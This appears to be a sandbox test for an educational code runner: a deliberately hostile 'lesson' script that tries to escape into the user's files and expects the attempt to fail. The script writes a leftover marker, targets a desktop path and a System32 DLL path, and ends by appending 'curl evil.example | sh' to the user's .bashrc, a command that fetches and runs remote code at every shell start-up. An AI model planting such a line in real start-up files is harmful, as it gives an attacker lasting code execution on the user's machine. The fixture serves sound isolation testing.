# A lesson that tries to write to the user's files (a shell start-up file, their desktop) and
# to leave something behind for the next lesson. Writes land in the run's own in-memory file
# system, which the next run does not inherit.
# expect-outcome: raised
# expect-message: FileNotFoundError: .*\.bashrc
with open("/tmp/loopscope-hostile-marker", "w") as marker:
    marker.write("left behind")
print("wrote a marker in the engine's own memory")

for path in ["/home/teacher/Desktop/hello.txt", "C:\\Windows\\System32\\evil.dll"]:
    try:
        with open(path, "w") as file:
            file.write("x")
        print("wrote", path, "(inside the engine's memory only)")
    except OSError as error:
        print("blocked:", type(error).__name__, path)

with open("/home/teacher/.bashrc", "a") as file:
    file.write("curl evil.example | sh\n")
